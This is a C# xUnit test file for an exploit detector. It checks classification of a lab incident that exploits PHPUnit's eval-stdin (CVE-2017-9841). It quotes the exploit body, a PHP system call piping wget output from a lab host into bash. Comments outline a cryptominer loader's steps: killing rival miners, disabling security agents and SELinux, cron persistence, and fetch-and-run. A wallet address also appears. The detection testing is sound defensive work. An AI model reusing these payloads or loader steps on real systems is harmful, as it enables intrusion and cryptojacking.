using System.Text;
using Assay.Tests;
using Xunit.Abstractions;

namespace Assay.Detection.Tests;

/// <summary>The lab incident (devlab-incident-phpunit): the exploit request, the probes, ldr.sh and config.json as served.</summary>
public class LabIncidentTests(ITestOutputHelper output)
{
    private const string Browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36";
    private const string EvalStdin = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php";

    private static List<ExploitMatch> Inspect(string method, string uri, string body)
    {
        var matches = new List<ExploitMatch>();
        KeyValuePair<string, string>[] headers = [new("Host", "10.77.0.20"), new("Content-Type", "text/plain"), new("Accept", "*/*")];
        ExploitDetector.Inspect(Encoding.ASCII.GetBytes(method), Encoding.ASCII.GetBytes(uri), Encoding.ASCII.GetBytes(Browser), headers, Encoding.UTF8.GetBytes(body), matches);
        return matches;
    }

    private static string TruthBody()
    {
        // The exploit body, exactly as the truth file quotes it (the fenced block after "exploit (step 7) request body").
        string truth = File.ReadAllText(Corpus.Path("lab/devlab-incident-phpunit.truth.md"));
        int at = truth.IndexOf("exploit (step 7) request body", StringComparison.Ordinal);
        int open = truth.IndexOf("```\n", at, StringComparison.Ordinal) + 4;
        int close = truth.IndexOf("\n```", open, StringComparison.Ordinal);
        return truth[open..close];
    }

    [Fact]
    public void TheExploitRequestIsPhpUnitEvalStdinWithPhpCodeAndCommandInjection()
    {
        if (Corpus.Root is null)
            return;
        string body = TruthBody();
        Assert.Equal("<?php system('wget -q -O - http://10.77.0.5:8080/ldr.sh | bash'); ?>", body);
        List<ExploitMatch> matches = Inspect("POST", EvalStdin, body);
        foreach (ExploitMatch m in matches)
            output.WriteLine($"{m.SignatureId} {m.Kind} sev={m.Severity} where={m.Where} name={m.Name} excerpt={m.Excerpt}");

        Assert.Equal(3, matches.Count);
        ExploitMatch phpunit = Assert.Single(matches, m => m.Kind == ExploitKind.PhpUnitEvalStdin);
        Assert.Equal(("url", 3, 9_100_102, EvalStdin), (phpunit.Where, phpunit.Severity, phpunit.SignatureId, phpunit.Excerpt));
        Assert.Contains("CVE-2017-9841", phpunit.Name, StringComparison.Ordinal);
        ExploitMatch php = Assert.Single(matches, m => m.Kind == ExploitKind.PhpCodeInjection);
        Assert.Equal(("body", 3, 9_100_101, body), (php.Where, php.Severity, php.SignatureId, php.Excerpt));
        ExploitMatch command = Assert.Single(matches, m => m.Kind == ExploitKind.CommandInjection);
        Assert.Equal(("body", 3, 9_100_103), (command.Where, command.Severity, command.SignatureId));
        Assert.Contains("| bash", command.Excerpt, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/phpunit/src/Util/PHP/eval-stdin.php")]
    [InlineData("/lib/phpunit/src/Util/PHP/eval-stdin.php")]
    [InlineData(EvalStdin)]
    public void TheGetProbesArePhpUnitProbesOfLowSeverity(string path)
    {
        List<ExploitMatch> matches = Inspect("GET", path, "");
        ExploitMatch probe = Assert.Single(matches);
        Assert.Equal((ExploitKind.PhpUnitEvalStdin, 1, "url", path), (probe.Kind, probe.Severity, probe.Where, probe.Excerpt));
        Assert.Contains("probe", probe.Name, StringComparison.Ordinal);
    }

    [Fact]
    public void TheRceCheckIsPhpUnitAndPhpCodeWithoutCommandInjection()
    {
        List<ExploitMatch> matches = Inspect("POST", EvalStdin, "<?php echo md5(\"phpunit-rce-check\"); ?>");
        Assert.Equal(2, matches.Count);
        Assert.Contains(matches, m => m.Kind == ExploitKind.PhpUnitEvalStdin && m.Severity == 3);
        Assert.Contains(matches, m => m.Kind == ExploitKind.PhpCodeInjection && m.Where == "body");
    }

    [Theory]
    [InlineData("GET", "/")]
    [InlineData("GET", "/.env")]
    public void TheOtherAttackerRequestsAreNotExploits(string method, string path) => Assert.Empty(Inspect(method, path, ""));

    [Fact]
    public void TheLoaderDownloadsAreToolDownloads()
    {
        if (Corpus.Root is null)
            return;
        byte[] script = File.ReadAllBytes(Corpus.Path("lab/truth/devlab-incident-phpunit/ldr.sh"));
        Assert.True(ToolDownload.IsToolUserAgent("Wget/1.21.3"u8, out string tool));
        Assert.Equal("wget", tool);
        Assert.True(ToolDownload.IsToolDownload("/ldr.sh"u8, "Wget/1.21.3"u8, script, out string reason));
        Assert.Equal("user-agent wget; path .sh; response shell-script", reason);
        Assert.True(ToolDownload.IsToolDownload("/sysupdate"u8, "Wget/1.21.3"u8, "\u007fELF\u0002\u0001\u0001"u8, out reason));
        Assert.Equal("user-agent wget; response elf", reason);
        Assert.False(ToolDownload.IsToolDownload("/"u8, Encoding.ASCII.GetBytes(Browser), "<html>"u8, out _));
    }

    [Fact]
    public void LdrShGivesTheIndicatorsTheTruthDescribesOnTheExactLines()
    {
        if (Corpus.Root is null)
            return;
        byte[] script = File.ReadAllBytes(Corpus.Path("lab/truth/devlab-incident-phpunit/ldr.sh"));
        Assert.Equal("f0cff1dbe76c7b0bc6df32aa95283dda49a8614423e53b707fe28d8dad18058d", Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(script)));
        string[] lines = Encoding.UTF8.GetString(script).Split('\n');
        (int Line, string Category, string Name)[] expected =
        [
            (27, "competitor-kill", "miner-name-list"),     // for n in xmrig xmr-stak kdevtmpfsi kinsing … .javae; do
            (28, "competitor-kill", "pkill-pattern"),       // pkill -9 -f "$n"
            (30, "competitor-kill", "kill-known-miners"),   // killall -9 xmrig kinsing kdevtmpfsi
            (31, "competitor-kill", "ps-kill"),             // ps -eo pid=,pcpu=,comm= | while read … (block to the kill -9 line)
            (34, "competitor-kill", "cron-cleanup"),        // crontab -l | grep -v -e xmr -e kinsing … | crontab -
            (35, "competitor-kill", "kill-known-miners"),   // systemctl stop c3pool_miner moneroocean_miner
            (36, "competitor-kill", "kill-known-miners"),   // systemctl disable c3pool_miner moneroocean_miner
            (39, "file-immutable", "chattr"),               // chattr -ia /etc/crontab … authorized_keys
            (40, "firewall", "iptables-rule"),              // iptables -I INPUT … -s 10.77.0.5 -j ACCEPT
            (41, "firewall", "iptables-rule"),              // iptables -A INPUT … -j DROP
            (42, "security-removal", "ufw-disable"),
            (43, "security-removal", "selinux-off"),        // setenforce 0
            (44, "security-removal", "security-agent"),     // systemctl stop aliyun.service aegis.service
            (45, "security-removal", "security-agent"),
            (46, "security-removal", "security-agent"),     // service bcm-agent stop
            (47, "security-removal", "security-agent"),     // pkill -9 -f AliYunDun
            (48, "security-removal", "security-agent"),     // pkill -9 -f YDService
            (49, "hugepages", "nr-hugepages"),              // sysctl -w vm.nr_hugepages=1280
            (52, "persistence-cron", "cron-schedule"),      // CRON="*/30 * * * * (wget … || curl …) | bash …"
            (52, "download-exec", "pipe-to-shell"),
            (53, "persistence-cron", "crontab-install"),    // (crontab -l; echo "$CRON") | crontab -
            (55, "persistence-cron", "cron-file"),          // echo "$CRON" >>…/var/spool/cron/crontabs/root
            (56, "file-immutable", "chattr"),               // chattr +i /var/spool/cron/crontabs/root
            (60, "download-exec", "download"),              // wget -q -O $BIN $C2/$BIN || curl … (sysupdate)
            (61, "download-exec", "download"),              // wget -q -O config.json $C2/config.json || curl …
            (62, "download-exec", "chmod-exec"),            // chmod +x $BIN
            (66, "download-exec", "run-downloaded"),        // nohup timeout 30 ./$BIN -c config.json … \ (two-line block)
            (66, "miner-config", "miner-options"),
        ];
        IReadOnlyList<ScriptIndicator> indicators = ScriptAnalyzer.Analyze(script);
        foreach (ScriptIndicator i in indicators)
            output.WriteLine($"{i.Line,3} {i.Category,-18} {i.Name,-18} {i.Text.Replace("\n", " \\n ", StringComparison.Ordinal)}");
        Assert.Equal(expected.Length, indicators.Count);
        for (int k = 0; k < expected.Length; k++)
        {
            Assert.Equal(expected[k], (indicators[k].Line, indicators[k].Category, indicators[k].Name));
            // The text is the line itself (trimmed), or for a block the lines from the first, joined.
            Assert.StartsWith(lines[expected[k].Line - 1].Trim(), indicators[k].Text, StringComparison.Ordinal);
        }

        Assert.Equal(lines[30].Trim() + "\n" + lines[31].Trim(), indicators[3].Text);
        Assert.Contains("--log-file=$DIR/miner.log", indicators[^1].Text, StringComparison.Ordinal);
        // The stand-in block (lines 2-18) only names the commands it shadows: nothing there is an indicator.
        Assert.DoesNotContain(indicators, i => i.Line < 20);
    }

    [Fact]
    public void ConfigJsonGivesPoolWalletAndDonateLevel()
    {
        if (Corpus.Root is null)
            return;
        IReadOnlyList<ScriptIndicator> indicators = ScriptAnalyzer.Analyze(File.ReadAllBytes(Corpus.Path("lab/truth/devlab-incident-phpunit/config.json")));
        (int, string, string)[] expected =
        [
            (41, "miner-config", "donate-level"),
            (44, "miner-config", "config-pools"),
            (48, "miner-config", "pool-url"),
            (49, "miner-config", "wallet"),
        ];
        Assert.Equal(expected, indicators.Select(i => (i.Line, i.Category, i.Name)).ToArray());
        Assert.Equal("\"url\": \"10.77.0.5:14444\",", indicators[2].Text);
        Assert.Contains("43DFPvju1bP4t1AjSddNLsjPbxRugXL1oBFQnheXyc5YGakVeAGCrruCTwy9ovHCUq7TjGsX2GVwL4jjHdTK6qnbDgRGxic", indicators[3].Text, StringComparison.Ordinal);
    }
}
